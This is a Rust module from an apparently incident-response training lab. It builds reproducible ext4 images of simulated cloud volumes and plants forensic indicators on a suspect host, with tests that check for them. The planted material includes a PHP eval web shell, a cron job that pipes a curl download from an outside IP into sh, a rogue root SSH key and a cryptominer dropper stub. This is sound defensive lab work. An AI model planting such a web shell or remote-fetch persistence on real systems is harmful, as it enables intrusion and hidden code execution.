//! The contents of the lab's EBS volumes: a real ext4 filesystem per Linux root volume,
//! built from a generated tree, with planted indicators of compromise on the suspect.
//!
//! Images are sparse files in the lab directory, byte-for-byte the same for the same seed,
//! so a test can hash what the acquisition read back against what was seeded.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use crate::common::LabError;

/// Every timestamp inside the images: 2026-11-01T00:00:00Z.
const IMAGE_EPOCH: u64 = 1_793_491_200;

/// An indicator of compromise planted on the suspect's disk.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PlantedIndicator {
    /// Absolute path inside the filesystem.
    pub path: String,
    /// What an analyst should recognise it as.
    pub kind: String,
    /// A string the file contains.
    pub marker: String,
}

/// A volume's seeded content.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SeededDisk {
    pub volume_id: String,
    pub instance_id: String,
    pub device: String,
    /// The raw image: exactly the volume's size, sparse on disk.
    pub image: PathBuf,
    pub size_bytes: u64,
    pub planted: Vec<PlantedIndicator>,
}

/// What goes on one instance's root filesystem.
#[derive(Debug, Clone)]
pub struct DiskSpec<'a> {
    pub hostname: &'a str,
    pub os: &'a str,
    pub role: &'a str,
    pub compromised: bool,
    pub size_gib: i32,
}

/// The indicators planted on a compromised host.
pub fn planted_indicators() -> Vec<PlantedIndicator> {
    vec![
        PlantedIndicator {
            path: "/var/www/html/uploads/.cache.php".into(),
            kind: "web shell".into(),
            marker: "eval(base64_decode($_POST['c']))".into(),
        },
        PlantedIndicator {
            path: "/etc/cron.d/0systemd-update".into(),
            kind: "cron persistence".into(),
            marker: "curl -fsSL http://198.51.100.23/u.sh | sh".into(),
        },
        PlantedIndicator {
            path: "/root/.ssh/authorized_keys".into(),
            kind: "unknown SSH key".into(),
            marker: "deploy@build-7f3a".into(),
        },
        PlantedIndicator {
            path: "/tmp/.X11-unix/.kworker".into(),
            kind: "cryptominer dropper".into(),
            marker: "stratum+tcp://pool.example.net:3333".into(),
        },
    ]
}

fn os_release(os: &str) -> String {
    let (id, version) = if os.starts_with("Ubuntu") {
        ("ubuntu", "22.04")
    } else if os.starts_with("Red Hat") {
        ("rhel", "9.4")
    } else if os == "Amazon Linux 2" {
        ("amzn", "2")
    } else {
        ("amzn", "2023")
    };
    format!("NAME=\"{os}\"\nID={id}\nVERSION_ID=\"{version}\"\nPRETTY_NAME=\"{os}\"\n")
}

/// Writes the filesystem tree of `spec` under `root`.
fn write_tree(root: &Path, spec: &DiskSpec<'_>) -> std::io::Result<()> {
    let write = |path: &str, content: &str| -> std::io::Result<()> {
        let full = root.join(path.trim_start_matches('/'));
        if let Some(dir) = full.parent() {
            std::fs::create_dir_all(dir)?;
        }
        std::fs::write(full, content)
    };
    write("/etc/hostname", &format!("{}\n", spec.hostname))?;
    write("/etc/os-release", &os_release(spec.os))?;
    write(
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nec2-user:x:1000:1000::/home/ec2-user:/bin/bash\nnginx:x:990:990::/var/lib/nginx:/sbin/nologin\n",
    )?;
    write(
        "/etc/crontab",
        "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    )?;
    write(
        "/home/ec2-user/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPk7xQvL0FqS3d2m9z1kq8h7b1nXoZcY2dJrj3o4uV0w platform-ops@example.com\n",
    )?;
    write(
        "/home/ec2-user/.bash_history",
        "sudo systemctl status nginx\ndf -h\nexit\n",
    )?;
    let mut auth_log = String::new();
    for minute in 0..6 {
        auth_log.push_str(&format!(
            "Nov  1 00:{minute:02}:11 {} sshd[1{minute}42]: Accepted publickey for ec2-user from 10.0.1.5 port 5{minute}212 ssh2\n",
            spec.hostname
        ));
    }
    if spec.role == "web" {
        write(
            "/var/www/html/index.html",
            "<!doctype html><title>storefront</title><h1>Welcome</h1>\n",
        )?;
        write(
            "/etc/nginx/nginx.conf",
            "events {}\nhttp { server { listen 443 ssl; root /var/www/html; } }\n",
        )?;
    }
    if spec.compromised {
        for attempt in 0..40 {
            auth_log.push_str(&format!(
                "Nov  1 02:{:02}:{:02} {} sshd[2{attempt:03}]: Failed password for root from 203.0.113.45 port 4{attempt:04} ssh2\n",
                attempt / 4,
                (attempt * 7) % 60,
                spec.hostname
            ));
        }
        auth_log.push_str(&format!(
            "Nov  1 02:11:09 {} sshd[2999]: Accepted password for root from 203.0.113.45 port 40999 ssh2\n",
            spec.hostname
        ));
        write(
            "/var/www/html/uploads/.cache.php",
            "<?php if(isset($_POST['c'])){ @eval(base64_decode($_POST['c'])); } ?>\n",
        )?;
        write(
            "/etc/cron.d/0systemd-update",
            "*/5 * * * * root curl -fsSL http://198.51.100.23/u.sh | sh >/dev/null 2>&1\n",
        )?;
        write(
            "/root/.ssh/authorized_keys",
            "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC3b9QmZ7k1x0Pq2Vf8sYtR4nH6wJdLmE0aXcU5oK9iB2 deploy@build-7f3a\n",
        )?;
        let mut dropper = b"\x7fELF\x02\x01\x01\0".to_vec();
        dropper.extend_from_slice(
            b"\0xmrig --donate-level 1 -o stratum+tcp://pool.example.net:3333 -u 4A8x...\0",
        );
        let path = root.join("tmp/.X11-unix/.kworker");
        std::fs::create_dir_all(path.parent().unwrap_or(root))?;
        std::fs::write(path, dropper)?;
        write(
            "/root/.bash_history",
            "cd /tmp/.X11-unix\nchmod +x .kworker\n./.kworker &\nhistory -c\n",
        )?;
    }
    write("/var/log/auth.log", &auth_log)?;
    Ok(())
}

/// Gives every file and directory under `root` the image epoch as its times, so the image
/// does not depend on when it was built.
fn fix_times(root: &Path) -> std::io::Result<()> {
    let epoch = std::time::UNIX_EPOCH + std::time::Duration::from_secs(IMAGE_EPOCH);
    let times = std::fs::FileTimes::new()
        .set_modified(epoch)
        .set_accessed(epoch);
    let mut stack = vec![root.to_owned()];
    let mut dirs = Vec::new();
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir)? {
            let path = entry?.path();
            if path.is_dir() {
                stack.push(path);
            } else {
                std::fs::File::options()
                    .write(true)
                    .open(&path)?
                    .set_times(times)?;
            }
        }
        dirs.push(dir);
    }
    // Directories last: setting a file's times does not change its directory's, but
    // creating entries did.
    for dir in dirs {
        std::fs::File::open(&dir)?.set_times(times)?;
    }
    Ok(())
}

fn mke2fs() -> Result<PathBuf, LabError> {
    let candidates = ["/usr/sbin/mke2fs", "/sbin/mke2fs"];
    if let Some(found) = candidates.iter().map(PathBuf::from).find(|p| p.exists()) {
        return Ok(found);
    }
    std::env::var_os("PATH")
        .and_then(|path| {
            std::env::split_paths(&path)
                .map(|d| d.join("mke2fs"))
                .find(|p| p.exists())
        })
        .ok_or_else(|| LabError::Seed {
            step: "build the lab's disk images",
            message: "mke2fs was not found: install e2fsprogs (Debian: apt-get install e2fsprogs)"
                .into(),
        })
}

/// A UUID-shaped value derived from `text`, for reproducible filesystem ids.
fn stable_uuid(text: &str) -> String {
    let digest = Sha256::digest(text.as_bytes());
    let hex = irf_engine::hex(&digest[..16]);
    format!(
        "{}-{}-4{}-8{}-{}",
        &hex[0..8],
        &hex[8..12],
        &hex[13..16],
        &hex[17..20],
        &hex[20..32]
    )
}

/// Builds the ext4 image of `spec` at `image` (a sparse file of the volume's size).
pub fn build_image(spec: &DiskSpec<'_>, image: &Path) -> Result<u64, LabError> {
    let failed = |message: String| LabError::Seed {
        step: "build the lab's disk images",
        message,
    };
    let tree = tempfile::Builder::new()
        .prefix("irf-lab-tree-")
        .tempdir()
        .map_err(|err| failed(format!("cannot create a temporary tree: {err}")))?;
    write_tree(tree.path(), spec)
        .and_then(|()| fix_times(tree.path()))
        .map_err(|err| {
            failed(format!(
                "cannot write the tree for {}: {err}",
                spec.hostname
            ))
        })?;
    if let Some(dir) = image.parent() {
        std::fs::create_dir_all(dir)
            .map_err(|err| failed(format!("cannot create '{}': {err}", dir.display())))?;
    }
    let size_bytes = u64::try_from(spec.size_gib.max(1)).unwrap_or(1) << 30;
    let _ = std::fs::remove_file(image);
    let uuid = stable_uuid(spec.hostname);
    let output = Command::new(mke2fs()?)
        .args([
            "-q", "-F", "-t", "ext4", "-b", "4096", "-L", "root", "-U", &uuid,
        ])
        .arg("-E")
        .arg(format!(
            "hash_seed={uuid},lazy_itable_init=1,lazy_journal_init=1,nodiscard,root_owner=0:0"
        ))
        .arg("-d")
        .arg(tree.path())
        .arg(image)
        .arg(format!("{}k", size_bytes / 1024))
        // Fixed superblock times: the same seed gives the same bytes.
        .env("E2FSPROGS_FAKE_TIME", IMAGE_EPOCH.to_string())
        .stdin(Stdio::null())
        .output()
        .map_err(|err| failed(format!("cannot run mke2fs: {err}")))?;
    if !output.status.success() {
        return Err(failed(format!(
            "mke2fs failed for {}: {}",
            spec.hostname,
            String::from_utf8_lossy(&output.stderr).trim()
        )));
    }
    Ok(size_bytes)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::{Read, Seek, SeekFrom};

    fn spec(compromised: bool) -> DiskSpec<'static> {
        DiskSpec {
            hostname: "prod-web-01",
            os: "Amazon Linux 2023",
            role: "web",
            compromised,
            size_gib: 1,
        }
    }

    fn sha256_file(path: &Path) -> String {
        let mut file = std::fs::File::open(path).expect("open");
        let mut hasher = Sha256::new();
        let mut buf = vec![0u8; 1 << 20];
        loop {
            let n = file.read(&mut buf).expect("read");
            if n == 0 {
                break;
            }
            hasher.update(&buf[..n]);
        }
        hasher
            .finalize()
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect()
    }

    #[test]
    fn images_are_ext4_of_the_volume_size_and_reproducible() {
        let dir = tempfile::tempdir().expect("tempdir");
        let first = dir.path().join("a.img");
        let second = dir.path().join("b.img");
        let size = build_image(&spec(true), &first).expect("first image");
        build_image(&spec(true), &second).expect("second image");
        assert_eq!(size, 1 << 30);
        assert_eq!(std::fs::metadata(&first).expect("meta").len(), size);
        let mut file = std::fs::File::open(&first).expect("open");
        file.seek(SeekFrom::Start(1024 + 56)).expect("seek");
        let mut magic = [0u8; 2];
        file.read_exact(&mut magic).expect("read magic");
        assert_eq!(u16::from_le_bytes(magic), 0xEF53, "ext superblock magic");
        assert_eq!(
            sha256_file(&first),
            sha256_file(&second),
            "same spec, same bytes"
        );
    }

    #[test]
    fn the_compromised_disk_holds_the_indicators() {
        let dir = tempfile::tempdir().expect("tempdir");
        let image = dir.path().join("suspect.img");
        build_image(&spec(true), &image).expect("image");
        for indicator in planted_indicators() {
            let out = Command::new("/usr/sbin/debugfs")
                .args(["-R", &format!("cat {}", indicator.path)])
                .arg(&image)
                .output()
                .expect("debugfs");
            let content = String::from_utf8_lossy(&out.stdout);
            assert!(
                content.contains(&indicator.marker),
                "{} lacks '{}': {content}",
                indicator.path,
                indicator.marker
            );
        }
    }

    #[test]
    fn uuids_are_stable_and_well_formed() {
        let uuid = stable_uuid("host");
        assert_eq!(uuid, stable_uuid("host"));
        assert_eq!(uuid.len(), 36);
        assert_ne!(uuid, stable_uuid("other"));
    }
}
